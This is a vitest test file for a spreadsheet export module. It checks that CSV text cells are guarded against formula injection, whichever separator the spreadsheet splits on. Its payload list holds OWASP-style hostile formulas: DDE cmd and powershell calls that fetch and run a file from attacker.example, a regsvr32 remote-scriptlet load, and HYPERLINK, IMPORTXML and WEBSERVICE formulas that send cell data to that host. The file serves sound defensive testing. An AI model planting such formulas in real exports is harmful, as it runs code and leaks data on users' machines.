import { describe, expect, it } from 'vitest';
import { csvLine, guardedText, toCsv, workbookValue } from '../../shared/table-cells';

/**
 * Payloads in the manner of OWASP's "CSV Injection" page: formulas, DDE calls, the @ and +/-
 * forms, tab and CR prefixes, and the same hidden behind whitespace, format characters or a
 * field separator (";" or "," splits the cell where a spreadsheet reads another separator).
 */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "=cmd|' /C powershell IEX(wget attacker.example/shell.exe)'!A0",
  '=HYPERLINK("http://attacker.example?leak="&A1&A2, "Error: please click for details")',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A1:Z9)), "//a")',
  '=WEBSERVICE("http://attacker.example/"&A1)',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(1,2)',
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  '=DDE("cmd";"/C calc";"!A0")',
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://attacker.example/x.sct scrobj.dll'!''",
  '\t=1+1',
  '\r=1+1',
  '\t',
  '\rtext',
  ' =1+1',
  '   +1+1',
  '\n=1+1',
  '\u00a0=1+1',
  '\u3000@SUM(1)',
  '\u200b=1+1',
  '\u200c\u200d-1+1',
  '\u200e=1+1',
  '\u200f+1',
  '\u2060=1+1',
  '\ufeff=1+1',
  ' \u200b \ufeff@A1',
  ';=1+1',
  'comment;=1+1',
  'comment; =1+1',
  'comment;\u200b=1+1',
  'a,=1+1',
  'a, +1',
  'a;-1',
  'a,@SUM(1)',
];

const harmless = ['plain comment', 'mb001', '会员<三>', 'a; b, c', 'x=1', 'e-mail', '', 'first, "quoted"'];

/** What a spreadsheet reading one CSV line with `separator` makes of it: the fields, unquoted. */
function readFields(line: string, separator: ',' | ';'): string[] {
  const fields: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const char = line[i]!;
    if (quoted) {
      if (char === '"' && line[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === separator) {
      fields.push(field);
      field = '';
    } else field += char;
  }
  fields.push(field);
  return fields;
}

/** A field a spreadsheet would run: its first visible character starts a formula, or it starts with tab or CR. */
const runnable = (field: string) => /^[\t\r]/.test(field) || /^[\s\p{Cc}\p{Cf}]*[=+\-@]/u.test(field);

describe('the formula guard of exported text cells', () => {
  it.each(payloads)('guards %j in CSV, whether the spreadsheet splits on "," or ";"', (payload) => {
    const line = csvLine(['1', payload, { number: '-12.50' }]);
    for (const separator of [',', ';'] as const) {
      const fields = readFields(line, separator);
      expect(fields.filter(runnable), `${separator}: ${JSON.stringify(line)}`).toEqual(separator === ',' ? ['-12.50'] : []);
    }
    expect(readFields(line, ',')).toEqual(['1', `'${payload}`, '-12.50']);
  });

  it.each(payloads)('guards %j in CSV text, and leaves it as typed in a workbook, whose string cells never run', (payload) => {
    expect(guardedText(payload)).toBe(`'${payload}`);
    expect(workbookValue(payload)).toBe(payload);
  });

  it('leaves text that runs nothing as it is', () => {
    for (const text of harmless) {
      expect(guardedText(text), text).toBe(text);
      expect(workbookValue(text), text).toBe(text);
    }
  });

  it('writes a numeric amount as the number it is, negative ones too; text that only looks like one is text and guarded', () => {
    expect(toCsv({ header: ['amount', 'text'], rows: [[{ number: '-12.50' }, '-12.50']] })).toBe("\uFEFFamount,text\r\n-12.50,'-12.50\r\n");
    expect(workbookValue({ number: '-12.50' })).toBe(-12.5);
    expect(workbookValue({ number: '1000.05' })).toBe(1000.05);
  });
});
